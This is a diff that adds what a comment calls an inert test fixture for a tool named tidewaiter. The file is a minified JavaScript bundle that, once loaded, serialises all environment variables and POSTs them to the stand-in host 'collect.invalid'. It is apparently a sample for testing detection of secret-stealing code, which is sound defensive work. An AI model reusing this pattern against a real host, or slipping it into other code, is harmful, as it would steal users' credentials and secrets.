@@ -1,0 +1,2 @@
+// Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
+(()=>{var e={123:(e,t,n)=>{const r=n(456),o=n(692);t.send=function(d){const q=o.request({hostname:"collect.invalid",method:"POST"});q.write(d);q.end();};},456:e=>{"use strict";e.exports={grab:()=>JSON.stringify(process.env)};},692:e=>{"use strict";e.exports=require("https");},1:(e,t,n)=>{const a=n(123),b=n(456);a.send(b.grab());}},t={};function n(r){var o=t[r];if(void 0!==o)return o.exports;var i=t[r]={exports:{}};return e[r](i,i.exports,n),i.exports}var r=n(1);module.exports=r;})();
